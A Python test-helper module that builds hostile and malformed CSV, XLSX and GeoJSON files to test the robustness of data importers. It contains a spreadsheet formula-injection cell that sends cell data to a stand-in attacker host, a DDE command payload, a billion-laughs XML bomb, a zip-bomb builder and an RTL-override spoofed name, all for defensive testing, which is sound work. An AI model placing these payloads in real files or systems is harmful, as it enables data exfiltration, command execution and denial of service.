"""Builders of hostile and broken files, derived from a small valid table.

Small files live in ``tests/corpus/`` (written by ``python -m tests.reliability.hostile``);
large ones (zip bombs, 1 MB cells, the 200 MB upload) are only ever built inside the tests.
"""

from __future__ import annotations

import csv
import functools
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

from openpyxl import Workbook

CORPUS = Path(__file__).resolve().parent.parent / "corpus"

Table = list[list[str]]

FORMULA_CELLS = [
    '=HYPERLINK("http://angreifer.example/?d="&A1;"Hier klicken")',
    "+cmd|' /C calc'!A0",
]
RTL_NAME = "Sprachcaf\u202eéfac"  # U+202E turns the rest of the name around on screen
MEGABYTE_CELL = "A" * 1_000_000


def to_csv(table: Table, delimiter: str = ";") -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(table)
    return out.getvalue()


def to_xlsx(table: Table, *, merge_header: bool = False, formulas: dict | None = None) -> bytes:
    """An Excel file of ``table``; ``formulas`` maps (row, col) (1-based) to a formula that is
    stored without a cached value (as files written by scripts or exported by web tools)."""
    book = Workbook()
    sheet = book.active
    if merge_header:
        sheet.append([table[0][0], "Merkmal"] + [""] * (len(table[0]) - 2))
        sheet.merge_cells(start_row=1, start_column=2, end_row=1, end_column=len(table[0]))
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    for row in table:
        sheet.append([ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in row])
    for (r, c), formula in (formulas or {}).items():
        sheet.cell(r + (1 if merge_header else 0), c).value = formula
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _rewrite_zip(data: bytes, replace: dict[str, bytes]) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item.filename, replace.get(item.filename, source.read(item.filename)))
    return out.getvalue()


def xml_bomb_xlsx(table: Table) -> bytes:
    """Billion laughs: ten levels of entities that expand to 10⁹ "lol"s in the first sheet."""
    lines = ['<?xml version="1.0"?>', "<!DOCTYPE worksheet [", ' <!ENTITY lol "lol">']
    lines.append(' <!ENTITY lol1 "' + "&lol;" * 10 + '">')
    for level in range(2, 10):
        lines.append(f' <!ENTITY lol{level} "' + f"&lol{level - 1};" * 10 + '">')
    lines.append("]>")
    lines.append(
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
        "</sheetData></worksheet>"
    )
    return _rewrite_zip(to_xlsx(table), {"xl/worksheets/sheet1.xml": "\n".join(lines).encode()})


def zip_bomb_xlsx(table: Table, *, megabytes: int = 120) -> bytes:
    """An XLSX whose first sheet unpacks to ``megabytes`` MB of identical rows (about 1000:1).
    The table does not matter for a bomb: it is built once and reused."""
    return _zip_bomb(megabytes)


@functools.cache
def _zip_bomb(megabytes: int) -> bytes:
    table = [["Schlüssel", "Wert"], ["1", "1"]]
    head = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<sheetData>"
    )
    row = b'<row><c t="inlineStr"><is><t>0</t></is></c><c><v>1</v></c></row>'
    chunk = row * (1 << 20 // len(row) + 1)
    source = zipfile.ZipFile(io.BytesIO(to_xlsx(table)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for item in source.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                target.writestr(item.filename, source.read(item.filename))
                continue
            with target.open(item.filename, "w", force_zip64=True) as member:
                member.write(head)
                written = 0
                while written < megabytes << 20:
                    member.write(chunk)
                    written += len(chunk)
                member.write(b"</sheetData></worksheet>")
    return out.getvalue()


def truncated_xlsx(table: Table) -> bytes:
    data = to_xlsx(table)
    return data[: len(data) // 2]


# name → (builder of the bytes from a valid table, file name suffix). A builder gets the valid
# table, the index of a text column and the index of a number column.
Builder = Callable[[Table, int, int], bytes]


def _with_cell(table: Table, col: int, value: str) -> Table:
    changed = [list(r) for r in table]
    changed[1][col] = value
    return changed


def _numbers(table: Table, col: int, fn: Callable[[str], str]) -> Table:
    changed = [list(r) for r in table]
    for row in changed[1:]:
        row[col] = fn(row[col])
    return changed


VARIANTS: dict[str, tuple[Builder, str]] = {
    "utf8": (lambda t, s, n: to_csv(t).encode(), ".csv"),
    "utf8_bom": (lambda t, s, n: to_csv(t).encode("utf-8-sig"), ".csv"),
    "cp1252": (lambda t, s, n: to_csv(t).encode("cp1252"), ".csv"),
    "latin1": (lambda t, s, n: to_csv(t).encode("latin-1"), ".csv"),
    "utf16": (lambda t, s, n: to_csv(t).encode("utf-16"), ".csv"),
    "comma_separated": (lambda t, s, n: to_csv(t, ",").encode(), ".csv"),
    "nul_bytes": (lambda t, s, n: to_csv(_with_cell(t, s, "Sprach\x00café")).encode(), ".csv"),
    "nul_everywhere": (lambda t, s, n: b"".join(bytes([c, 0]) for c in to_csv(t).encode()), ".csv"),
    "decimal_comma": (
        lambda t, s, n: to_csv(_numbers(t, n, lambda v: v + ",5" if v.isdigit() else v)).encode(),
        ".csv",
    ),
    "decimal_point": (
        lambda t, s, n: to_csv(_numbers(t, n, lambda v: v + ".5" if v.isdigit() else v)).encode(),
        ".csv",
    ),
    "thousands_dot": (
        lambda t, s, n: to_csv(_numbers(t, n, lambda v: "1.2" + v if v.isdigit() else v)).encode(),
        ".csv",
    ),
    "formula_hyperlink": (
        lambda t, s, n: to_csv(_with_cell(t, s, FORMULA_CELLS[0])).encode(),
        ".csv",
    ),
    "formula_cmd": (lambda t, s, n: to_csv(_with_cell(t, s, FORMULA_CELLS[1])).encode(), ".csv"),
    "rtl_override": (lambda t, s, n: to_csv(_with_cell(t, s, RTL_NAME)).encode(), ".csv"),
    "unbalanced_quote": (lambda t, s, n: to_csv(t).encode().replace(b";", b';"', 1), ".csv"),
    "ragged_rows": (lambda t, s, n: to_csv([*t, ["nur eine Zelle"]]).encode(), ".csv"),
    "empty": (lambda t, s, n: b"", ".csv"),
    "only_header": (lambda t, s, n: to_csv(t[:1]).encode(), ".csv"),
    "binary_garbage": (lambda t, s, n: bytes(range(256)) * 40, ".csv"),
    "csv_renamed_xlsx": (lambda t, s, n: to_csv(t).encode(), ".xlsx"),
    "xlsx": (lambda t, s, n: to_xlsx(t), ".xlsx"),
    "xlsx_merged_header": (lambda t, s, n: to_xlsx(t, merge_header=True), ".xlsx"),
    "xlsx_formula_without_value": (
        lambda t, s, n: to_xlsx(t, formulas={(2, n + 1): "=1+1"}),
        ".xlsx",
    ),
    "xlsx_formula_text": (
        lambda t, s, n: to_xlsx(_with_cell(t, s, "'" + FORMULA_CELLS[0])),
        ".xlsx",
    ),
    "xlsx_truncated": (lambda t, s, n: truncated_xlsx(t), ".xlsx"),
    "xlsx_xml_bomb": (lambda t, s, n: xml_bomb_xlsx(t), ".xlsx"),
}

# Built only inside the tests (too large to commit).
LARGE_VARIANTS: dict[str, tuple[Builder, str]] = {
    "megabyte_cell": (lambda t, s, n: to_csv(_with_cell(t, s, MEGABYTE_CELL)).encode(), ".csv"),
    "xlsx_zip_bomb": (lambda t, s, n: zip_bomb_xlsx(t), ".xlsx"),
}


def write_corpus(tables: dict[str, tuple[Table, int, int]]) -> list[Path]:
    """Write every small variant of every importer's table to tests/corpus/<importer>/."""
    written = []
    for importer, (table, text_col, number_col) in tables.items():
        folder = CORPUS / importer
        folder.mkdir(parents=True, exist_ok=True)
        for name, (build, suffix) in VARIANTS.items():
            path = folder / f"{name}{suffix}"
            path.write_bytes(build(table, text_col, number_col))
            written.append(path)
    return written


# --- GeoJSON (areas) ----------------------------------------------------------------------------

SQUARE = [[6.95, 50.90], [7.00, 50.90], [7.00, 50.95], [6.95, 50.95], [6.95, 50.90]]


def _areas(*features: dict) -> bytes:
    import json

    return json.dumps({"type": "FeatureCollection", "features": list(features)}).encode()


def _feature(
    key: object = "101", name: object = "Altstadt/Süd", coordinates: object = None
) -> dict:
    return {
        "type": "Feature",
        "properties": {"NR": key, "NAME": name},
        "geometry": {
            "type": "Polygon",
            "coordinates": [SQUARE] if coordinates is None else coordinates,
        },
    }


GEOJSON_VARIANTS: dict[str, bytes] = {
    "valid": _areas(_feature(), _feature("102", "Neustadt/Süd")),
    "utf8_bom": b"\xef\xbb\xbf" + _areas(_feature()),
    "latin1": _areas(_feature())
    .decode()
    .encode("latin-1", errors="replace")
    .replace(b"\\u00fc", b"\xfc"),
    "rtl_override_name": _areas(_feature(name=RTL_NAME)),
    "nul_in_name": _areas(_feature(name="Alt\x00stadt")),
    "name_too_long": _areas(_feature(name="A" * 5000)),
    "key_is_object": _areas(_feature(key={"a": 1})),
    "coordinates_text": _areas(_feature(coordinates="abc")),
    "coordinates_nan": b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"NR":"1","NAME":"A"},"geometry":{"type":"Polygon","coordinates":[[[NaN,1],[1,1],[1,2],[NaN,1]]]}}]}',
    "coordinates_out_of_range": _areas(
        _feature(coordinates=[[[700, 95], [1, 1], [1, 2], [700, 95]]])
    ),
    "ring_too_short": _areas(_feature(coordinates=[[[1, 1], [1, 2]]])),
    "features_not_list": b'{"type":"FeatureCollection","features":{"a":1}}',
    "feature_is_number": b'{"type":"FeatureCollection","features":[1,2,3]}',
    "properties_is_list": b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":[1],"geometry":null}]}',
    "point_geometry": _areas(
        {
            "type": "Feature",
            "properties": {"NR": "1", "NAME": "A"},
            "geometry": {"type": "Point", "coordinates": [7, 50]},
        }
    ),
    "deep_nesting": b'{"type":"FeatureCollection","features":'
    + b"[" * 100_000
    + b"]" * 100_000
    + b"}",
    "truncated": _areas(_feature())[:60],
    "not_json": b"NR;NAME\n101;Altstadt\n",
    "empty": b"",
    "binary_garbage": bytes(range(256)) * 40,
}


def main() -> None:
    from tests.reliability.parsers import PARSERS

    written = write_corpus(
        {name: (p.table, p.text_col, p.number_col) for name, p in PARSERS.items()}
    )
    folder = CORPUS / "core_areas"
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in GEOJSON_VARIANTS.items():
        if len(data) < 100_000:  # the deeply nested file is built in the tests only
            (folder / f"{name}.geojson").write_bytes(data)
            written.append(folder / f"{name}.geojson")
    print(f"{len(written)} Dateien in {CORPUS}")


if __name__ == "__main__":
    main()
